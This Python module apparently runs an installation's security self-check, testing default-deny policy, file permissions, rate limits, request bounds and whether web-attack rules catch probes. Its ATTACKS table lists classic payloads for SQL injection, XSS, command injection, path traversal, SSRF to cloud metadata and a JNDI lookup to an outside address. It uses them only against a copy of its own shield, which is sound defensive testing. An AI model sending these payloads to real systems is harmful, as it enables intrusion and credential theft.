"""The check of what protects an installation: each protection is tried, not
only looked up.

Pure but for what it is given; the shield it tries is a twin of the one in
force, so nothing is counted against anybody.
"""

from __future__ import annotations

from collections.abc import Callable, Sequence
from typing import Literal, Protocol

import msgspec

from agentsquad.kernel.policy import PolicyEngine, Question
from agentsquad.trust.threats.contract import Hit
from agentsquad.trust.threats.ratelimit import Counters, Limit
from agentsquad.trust.threats.shield import SquadShield

STRANGER = "192.0.2.7"  # of a network that nobody has (RFC 5737)
AGENT = {"host": "squad.example", "user-agent": "squad-doctor", "accept": "*/*"}

# One plain attack of each family; the engine's own tests hold thousands.
ATTACKS = {
    "SQL": "id=1' UNION SELECT password FROM users-- -",
    "XSS": "q=<script>alert(document.cookie)</script>",
    "commands": "host=;cat /etc/passwd|sh",
    "files": "file=../../../../etc/passwd",
    "SSRF": "url=http://169.254.169.254/latest/meta-data/",
    "Java": "q=${jndi:ldap://203.0.113.9/a}",
}


class Check(msgspec.Struct, frozen=True, kw_only=True):
    """One check: `state` is passed, failed, or absent where nothing was asked
    for."""

    name: str
    state: Literal["passed", "failed", "absent"]
    found: str
    hint: str = ""


class Surroundings(Protocol):
    """What lies around an installation on its machine."""

    def exposed(self) -> Sequence[str]:
        """Return the files of the installation that others of this machine may
        read or change."""
        ...

    def variable(self, name: str) -> str:
        """Return a variable of the environment, empty without one."""
        ...


def run_checks(
    shield: SquadShield, policy: PolicyEngine, around: Surroundings
) -> tuple[Check, ...]:
    """Return what was found, what protects most first."""
    return (
        _denied(policy),
        _agents(policy),
        _private(around),
        _quiet(around),
        _bounded(shield),
        *_limited(shield),
        _doubted(shield),
        _ruled(shield),
        _placed(shield),
    )


def _probe(path: str = "/v1/runs", **fields: object) -> Hit:
    given = {"surface": "doctor", "method": "GET", "headers": AGENT, "address": STRANGER}
    return Hit(path=path, **{**given, **fields})  # type: ignore[arg-type]


def _verdict(name: str, passed: bool, found: str, hint: str) -> Check:
    return Check(
        name=name,
        state="passed" if passed else "failed",
        found=found,
        hint="" if passed else hint,
    )


def _denied(policy: PolicyEngine) -> Check:
    question = Question(
        actor="person:nobody", action="nothing.known", effect="write", input={}, facts={}
    )
    allowed = policy.decide(question).allow
    return _verdict(
        "policy denies what no rule allows",
        not allowed,
        "an unknown action is allowed" if allowed else "an unknown action is denied",
        "a rule in SQUAD_POLICY allows everything: squad policy show",
    )


def _agents(policy: PolicyEngine) -> Check:
    question = Question(
        actor="agent:any", action="approvals.approve", effect="write", input={}, facts={}
    )
    allowed = policy.decide(question).allow
    return _verdict(
        "an agent approves nothing",
        not allowed,
        "an agent may approve" if allowed else "an agent that approves is denied",
        "a rule in SQUAD_POLICY allows it: squad policy show",
    )


def _private(around: Surroundings) -> Check:
    exposed = list(around.exposed())
    some = ", ".join(exposed[:3]) + (f" and {len(exposed) - 3} more" if len(exposed) > 3 else "")
    return _verdict(
        "files are their owner's alone",
        not exposed,
        f"others may read {some}" if exposed else "nobody else may read them",
        "chmod -R go-rwx the folder SQUAD_HOME",
    )


def _quiet(around: Surroundings) -> Check:
    said = around.variable("SQUAD_DEBUG").lower() not in ("", "0", "off")
    return _verdict(
        "errors say nothing of the inside",
        not said,
        "SQUAD_DEBUG is on" if said else "SQUAD_DEBUG is off",
        "unset SQUAD_DEBUG where others use the server",
    )


def _bounded(shield: SquadShield) -> Check:
    deep = _probe(headers={"content-type": "application/json"}, body=b"[" * 100_000)
    wide = _probe(headers={f"x-{number}": "1" for number in range(5_000)})
    refused = all(shield.twin().outer(one).answer == "refuse" for one in (deep, wide))
    return _verdict(
        "requests have bounds",
        refused,
        "deep and wide ones are refused" if refused else "deep or wide ones pass",
        "lower the bounds of the Protection in force",
    )


def _limited(shield: SquadShield) -> list[Check]:
    known = {"address": "requests of an address are limited", "actor": "calls of an actor too"}
    found = []
    for by, name in known.items():
        limits = [one for one in shield.limits if by in one.by and not one.period]
        held = [one for one in limits if _holds(one)]
        found.append(
            _verdict(
                name,
                bool(held),
                "; ".join(f"{one.name}: {_words(one)}" for one in held) or "no limit holds",
                f"apply a RateLimit by {by}",
            )
        )
    return found


def _holds(limit: Limit) -> bool:
    """Whether a limit lets through what it says, and not one more."""
    match = limit.match
    first: Callable[[tuple[str, ...], str], str] = lambda patterns, other: (  # noqa: E731
        patterns[0].replace("*", "x") if patterns else other
    )
    rule = limit.rule
    most = rule.limit if rule.algorithm == "sliding-window" else rule.depth
    hit = _probe(
        surface=first(match.surfaces, "rest"),
        method=first(match.methods, "GET"),
        route=first(match.actions or match.routes, "/v1/runs"),
        actor=first(match.actors, "person:nobody"),
        namespace=first(match.namespaces, "default"),
        address=match.addresses[0].partition("/")[0] if match.addresses else STRANGER,
    )
    counters = Counters([limit])
    answers = []
    for cost in (most, 1):
        asked = msgspec.structs.replace(hit, cost=cost)
        answers += [one.outcome.passes for one in counters.count(asked, 0, later=limit.later)]
    return answers == [True, False]


def _words(limit: Limit) -> str:
    rule = limit.rule
    return f"{rule.limit} in {rule.window_ms / 1000:g} s ({rule.algorithm})"


def _doubted(shield: SquadShield) -> Check:
    twin = shield.twin()
    answers = [twin.outer(_probe("/.git/config")).answer for _ in range(30)]
    stopped = next((n for n, one in enumerate(answers, 1) if one in ("challenge", "refuse")), 0)
    return _verdict(
        "machines that try doors are stopped",
        bool(stopped),
        f"after {stopped} tries" if stopped else "thirty tries went through",
        "lower suspicion.challenge of the Protection in force",
    )


def _ruled(shield: SquadShield) -> Check:
    name = "attack rules know the classic families"
    rules, mode = shield.inspector, shield.protection.mode
    if rules is None or mode == "off":
        why = "there are none" if rules is None else "they are off"
        return Check(
            name=name,
            state="failed",
            found=why,
            hint="SQUAD_WAF_RULES names the folder of the OWASP Core Rule Set",
        )
    least = shield.protection.threshold
    missed = [
        family
        for family, query in ATTACKS.items()
        if sum(one.score for one in rules.inspect(_probe(query=_quoted(query)))) < least
    ]
    return _verdict(
        name,
        not missed,
        f"{rules.about}, mode {mode}" + (f"; missed: {', '.join(missed)}" if missed else ""),
        "a newer rule set, or a lower threshold",
    )


def _quoted(query: str) -> str:
    name, _, value = query.partition("=")
    coded = "".join(
        letter if letter.isalnum() else "".join(f"%{byte:02X}" for byte in letter.encode())
        for letter in value
    )
    return f"{name}={coded}"


def _placed(shield: SquadShield) -> Check:
    protection = shield.protection
    named = (*protection.allow, *protection.deny)
    return Check(
        name="countries",
        state="passed" if named else "absent",
        found=f"rules about {', '.join(named)}" if named else "no rule about them",
    )
